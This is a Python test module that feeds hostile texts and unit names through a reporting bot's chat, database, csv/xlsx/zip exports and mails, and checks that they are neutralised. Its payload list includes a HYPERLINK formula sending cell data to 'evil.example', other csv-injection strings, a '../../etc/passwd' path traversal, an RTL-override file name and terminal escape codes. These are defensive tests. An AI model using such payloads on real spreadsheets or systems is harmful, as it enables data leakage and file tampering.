"""Every text a liaison can send, and every name a unit or a file can have, in every export
(issue 12, parts 2 and 3): each file opens, no cell is a formula, and the text is there.

The texts and names go in through the real conversation (and the office's unit list);
the database keeps what was sent (less the NULs the input edge drops), and only what the
office reads is rendered:
a control character is shown as its sign (U+0007 → ␇), Word's manual line and page
breaks (U+000B, U+000C) as line breaks, U+FFFE/U+FFFF as U+FFFD; a csv field that
starts like a formula gets a leading ' (OWASP).
"""
from __future__ import annotations

import csv
import email
import io
import json
import re
import socket
import unicodedata
import zipfile
from email import policy
from io import BytesIO
from pathlib import PureWindowsPath

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.app import create_app
from bot.bootstrap import build_services
from bot.clock import FixedClock
from bot.cli import main
from bot.config import build_config
from bot.messages import storable_text
from bot.worker import Worker
from storage.db import UnitOfWork
from storage.models import QuarterFactValue, StoredFile, SummaryItem, Unit
from tests.admin_support import built_pack, make_users, sign_in
from tests.conftest import BACKENDS, SUMMARY, Dialogue, add_unit, emptied, jpeg_bytes, shanghai

CONTROLS = [f"前{chr(c)}后" for c in range(0x20)]
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "=1+2", "+1+2", "-1+2",
            "@SUM(1,2)", "\t=1+2", "\r=1+2", "#N/A"]
ODD = ["前\ufffe后", "前\uffff后", "从右到左\u202egpj.exe", "表情😀👨‍👩‍👧", "零宽\u200b\u200c\u200d\ufeff字符",
       "../../etc/passwd", "CON", "..", "前后 空格 .", "前\x7f后", "前\x9b2J后", "清屏\x1b[2J"]
HOSTILE = CONTROLS + FORMULAS + ODD
NUL_TEXT = "前\x00后"
# 103,600 bytes of UTF-8 that the conversation takes (20,000 characters at most, white space
# not counted): a pasted document with its indents and blank lines
LONG = "志愿服务" + "\n\n      活动" * 7400
STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
SIGNS = {**{chr(c): chr(0x2400 + c) for c in range(0x20)}, "\t": "\t", "\n": "\n", "\r": "\r",
         "\x0b": "\n", "\x0c": "\n", "\ufffe": "\ufffd", "\uffff": "\ufffd"}


def said(payload: str) -> str:
    """The hostile text at the start of a summary long enough to be recorded as one."""
    return payload + SUMMARY


def kept(payload: str) -> str:
    """What the database keeps of it: the input edge drops NULs (bot.messages), the text
    handler the white space at both ends; the rest is as sent."""
    return storable_text(said(payload)).strip()


def shown(text: str) -> str:
    """What the office reads in a csv field or a mail: control characters as signs."""
    return "".join(SIGNS.get(ch, ch) for ch in text)


def in_csv(text: str) -> str:
    text = shown(text)
    return "'" + text if text.startswith(STARTS) else text


def in_xlsx(text: str) -> str:
    return shown(text).replace("\r\n", "\n").replace("\r", "\n")


def storable(payloads: list[str], db_url: str) -> list[str]:
    """Unit names PostgreSQL can hold (U+0000 it can't; a unit's name comes from the office's
    list, not through the input edge, so NUL_TEXT is also sent as a text on every database)."""
    if db_url.startswith("postgresql"):
        return [p for p in payloads if "\x00" not in p]
    return payloads


@pytest.fixture(scope="module")
def smtp():
    from aiosmtpd.controller import Controller

    class Inbox:
        def __init__(self):
            self.messages = []

        async def handle_DATA(self, server, session, envelope):
            self.messages.append(envelope)
            return "250 OK"

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    inbox = Inbox()
    controller = Controller(inbox, hostname="127.0.0.1", port=port)
    controller.start()
    inbox.port = port
    yield inbox
    controller.stop()


@pytest.fixture(scope="module", params=BACKENDS)
def world(request, database_urls, tmp_path_factory, smtp):
    """One unit named after each hostile text; its liaison sends the text as a message and as
    a file name, with a summary and a photo (so the month is complete and mailed). Built once
    per database for the module: every test here reads it, none changes what another reads
    (the facts import writes facts that no other test looks at)."""
    db_url = emptied(database_urls[request.param])
    smtp.messages.clear()           # the other database's world was mailed to the same inbox
    tmp_path = tmp_path_factory.mktemp("hostile")
    clock = FixedClock(shanghai(2026, 3, 20, 10, 0, 0))
    config = build_config({"database": {"url": db_url}, "files": {"dir": str(tmp_path / "f")},
                           "mail": {"enabled": True, "host": "127.0.0.1", "port": smtp.port,
                                    "sender": "bot@county.gov.cn",
                                    "to": ["office@county.gov.cn"]}})
    payloads = storable(HOSTILE, db_url)
    with build_services(config, clock=clock) as services:
        make_users(services)
        chat = Dialogue(services)
        clock.set(shanghai(2026, 3, 2, 9, 0, 0))
        units = {}
        for n, payload in enumerate(payloads):
            units[payload] = add_unit(services, payload, ("key", "department")[n % 2],
                                      [f"console:u{n}"])
            chat.say(f"console:u{n}", SUMMARY)
            chat.say(f"console:u{n}", said(payload))
            chat.document(f"console:u{n}", f"{SUMMARY}（{n}）".encode(), f"{payload}.txt")
            chat.photo(f"console:u{n}", jpeg_bytes(seed=n))
        chat.say("console:u0", LONG)
        chat.say("console:u0", said(NUL_TEXT))
        clock.set(shanghai(2026, 3, 20, 10, 0, 0))
        worker = Worker(services)
        while worker.run_once(limit=100):   # the clock stands still: a failed mail waits
            pass
        yield services, units, tmp_path


@pytest.fixture
def client(world):
    services, _, _ = world
    client = create_app(services=services).test_client()
    sign_in(client)
    return client


@pytest.fixture
def cfg(world):
    services, _, tmp_path = world
    path = tmp_path / "bot.toml"
    path.write_text(f'[database]\nurl = "{services.config.database.url}"\n'
                    f'[files]\ndir = "{services.config.files.dir}"\n', encoding="utf-8")
    return str(path)


def download(client, url: str) -> bytes:
    with client.get(url) as resp:
        assert resp.status_code == 200, url
        return resp.data


def xlsx_values(data: bytes) -> list:
    """Every cell's value; the workbook opens, and no cell is a formula or an error value."""
    with zipfile.ZipFile(BytesIO(data)) as raw:
        assert raw.testzip() is None
        for name in raw.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", raw.read(name)), name
    book = load_workbook(BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    book.close()
    return values


def csv_rows(data: bytes) -> list[list[str]]:
    """Every row; no field starts like a formula (OWASP), unless it is a plain number."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for field in row:
            assert not field.startswith(STARTS) or NUMBER.fullmatch(field), field
    return rows


def safe_zip(data: bytes) -> zipfile.ZipFile:
    """The zip opens, and every entry name is safe to extract anywhere."""
    pack = zipfile.ZipFile(BytesIO(data))
    assert pack.testzip() is None
    names = pack.namelist()
    assert len(names) == len(set(names))
    folders = {"/".join(n.split("/")[:i]) for n in names for i in range(1, n.count("/") + 1)}
    assert not folders & set(names)  # no file where another entry needs a folder
    for name in names:
        assert "\\" not in name and ":" not in name
        for part in name.split("/"):
            assert part not in ("", ".", "..") and part == part.strip(" .")
            assert len(part.encode()) <= 255
            assert all(unicodedata.category(ch) not in ("Cc", "Cf", "Cs") for ch in part), name
    return pack


def test_the_database_keeps_exactly_what_was_sent(world):
    services, units, _ = world
    with UnitOfWork(services.session_factory) as uow:
        names = set(uow.session.scalars(select(Unit.name)))
        texts = set(uow.session.scalars(select(SummaryItem.text).where(SummaryItem.kind == "text")))
        files = set(uow.session.scalars(select(StoredFile.filename).where(
            StoredFile.kind == "document")))
    assert names == set(units)
    assert texts == {SUMMARY, LONG, kept(NUL_TEXT), *(kept(p) for p in units)}
    assert files == {PureWindowsPath(storable_text(f"{p}.txt")).name for p in units}


def test_every_units_evidence_pack_opens_with_its_texts_and_no_formula(world, client):
    _, units, _ = world
    for payload, unit_id in units.items():
        pack = safe_zip(download(client, f"/admin/evidence/{unit_id}.zip?quarter=2026Q1"))
        [folder] = {n.split("/")[0] for n in pack.namelist()}
        text = pack.read(f"{folder}/2026-03/小结文字.txt").decode("utf-8-sig")
        assert kept(payload) in text
        assert len([n for n in pack.namelist() if "/文档/" in n]) == 1
        values = xlsx_values(pack.read(f"{folder}/回执清单.xlsx"))
        assert in_xlsx(kept(payload)[:200]) in values
    first = download(client, f"/admin/evidence/{units[next(iter(units))]}.zip?quarter=2026Q1")
    with safe_zip(first) as pack:
        [receipts] = [n for n in pack.namelist() if n.endswith("回执清单.xlsx")]
        values = xlsx_values(pack.read(receipts))
        assert LONG[:200] in values and in_xlsx(kept(NUL_TEXT)) in values
        [texts] = [n for n in pack.namelist() if n.endswith("小结文字.txt")]
        assert LONG in pack.read(texts).decode("utf-8-sig")


def test_all_units_pack_gives_each_unit_its_own_safe_folder(world, client):
    _, units, _ = world
    services, _, _ = world
    with safe_zip(built_pack(services, client)) as pack:
        receipts = [n for n in pack.namelist() if n.endswith("/回执清单.xlsx")]
        folders = {n.split("/")[0] for n in receipts}
        assert len(receipts) == len(folders) == len(units)
        assert {"前_后", "前_后（2）", "_", "_CON", "_.._etc_passwd"} <= folders
        for entry in receipts:
            xlsx_values(pack.read(entry))
        values = xlsx_values(pack.read("2026Q1报送汇总.xlsx"))
    assert {in_xlsx(name) for name in units} <= set(values)


def names_in(rows: list[list[str]], header: str) -> set[str]:
    column = rows[0].index(header)
    return {row[column] for row in rows[1:]}


def test_the_score_tables_export_in_every_format_with_every_name_as_text(world, client):
    _, units, _ = world
    for url in ("/admin/scores/export.{}?quarter=2026Q1", "/admin/scores/year/export.{}?year=2026"):
        rows = csv_rows(download(client, url.format("csv")))
        assert names_in(rows, "单位") == {in_csv(name) for name in units}
        values = xlsx_values(download(client, url.format("xlsx")))
        assert {in_xlsx(name) for name in units} <= set(values)


def test_the_cli_writes_the_scores_in_every_format(world, cfg, tmp_path, capsys):
    _, units, _ = world
    for period in (["--quarter", "2026Q1"], ["--year", "2026"]):
        for fmt in ("csv", "xlsx", "json"):
            path = tmp_path / f"scores.{fmt}"
            assert main(["--config", cfg, "scores", *period, "--format", fmt,
                         "--output", str(path)]) == 0
            data = path.read_bytes()
            if fmt == "csv":
                assert names_in(csv_rows(data), "单位") == {in_csv(name) for name in units}
            elif fmt == "xlsx":
                assert {in_xlsx(name) for name in units} <= set(xlsx_values(data))
            else:
                assert {row["unit"] for row in json.loads(data)} == set(units)
        capsys.readouterr()
        assert main(["--config", cfg, "scores", *period]) == 0
        table = capsys.readouterr().out
        assert all(ch == "\n" or unicodedata.category(ch) != "Cc" for ch in table)
        assert "前␇后" in table and "=HYPERLINK(" in table


def test_the_facts_template_holds_every_name_as_text_and_imports_back(world, client, cfg,
                                                                      tmp_path, capsys):
    services, units, _ = world
    values = xlsx_values(download(client, "/admin/facts/template.xlsx?quarter=2026Q1"))
    assert {in_xlsx(name) for name in units} <= set(values)
    for suffix in ("xlsx", "csv"):
        path = tmp_path / f"facts.{suffix}"
        assert main(["--config", cfg, "facts", "template", "--quarter", "2026Q1", str(path)]) == 0
        data = path.read_bytes()
        capsys.readouterr()
        assert main(["--config", cfg, "facts", "import", str(path)]) != 0
        assert "「前\n后」在表格中可对应多个单位" in capsys.readouterr().err
        if suffix == "xlsx":
            book = load_workbook(path)
            xlsx_values(data)
            rows = [[c.value for c in row] for row in book["季度事实"].iter_rows()]
        else:
            rows = csv_rows(data)
        column = rows[0].index("在编在岗人数")
        seen = [row[0] for row in rows[1:]]
        # names that differ only in a kind of line break read the same: the office can't
        # tell those rows apart either, so they are left out of this round trip
        kept = [row for row in rows[1:] if seen.count(row[0]) == 1]
        for n, row in enumerate(kept, start=1):
            row[column] = n
        if suffix == "xlsx":
            sheet = book["季度事实"]
            sheet.delete_rows(2, sheet.max_row)
            for row in kept:
                sheet.append(row)
            for row in sheet.iter_rows(min_row=2):
                for cell in row:
                    if isinstance(cell.value, str):
                        cell.data_type = "s"
            book.save(path)
        else:
            with path.open("w", encoding="utf-8-sig", newline="") as out:
                csv.writer(out).writerows([rows[0], *kept])
        assert len(kept) >= len(units) - 6
        assert main(["--config", cfg, "facts", "import", str(path)]) == 0
        with UnitOfWork(services.session_factory) as uow:
            staff = {name: value for name, value in uow.session.execute(
                select(Unit.name, QuarterFactValue.value).join(QuarterFactValue)
                .where(QuarterFactValue.name == "staff_on_post"))}
        assert sorted(staff.values()) == list(range(1, len(kept) + 1))
        assert staff['=HYPERLINK("http://evil.example/?d="&A1,"点我")'] is not None
        assert staff["\t=1+2"] is not None and staff["前\x07后"] is not None


def test_every_complete_month_is_mailed_with_its_texts_and_safe_attachment_names(world, smtp):
    _, units, _ = world
    assert len(smtp.messages) == len(units)
    bodies = []
    for envelope in smtp.messages:
        msg = email.message_from_bytes(envelope.content, policy=policy.default)
        assert "\n" not in msg["Subject"] and "2026年3月" in msg["Subject"]
        bodies.append(msg.get_body(("plain",)).get_content())
        for part in msg.iter_attachments():
            name = part.get_filename()
            assert name and "/" not in name and "\\" not in name
            assert all(unicodedata.category(ch) not in ("Cc", "Cf") for ch in name)
    text = "\n".join(bodies)
    for payload in units:
        assert shown(kept(payload)).replace("\r", "\n") in text.replace("\r", "\n")
    assert LONG in text and shown(kept(NUL_TEXT)) in text


def test_the_office_reads_every_text_and_downloads_every_document(world, client):
    services, units, _ = world
    with UnitOfWork(services.session_factory) as uow:
        files = uow.session.scalars(select(StoredFile.id).where(
            StoredFile.kind == "document")).all()
    for unit_id in units.values():
        assert client.get(f"/admin/units/{unit_id}?quarter=2026Q1").status_code == 200
    for file_id in files:
        resp = client.get(f"/admin/files/{file_id}")
        assert resp.status_code == 200 and "attachment" in resp.headers["Content-Disposition"]
        resp.close()
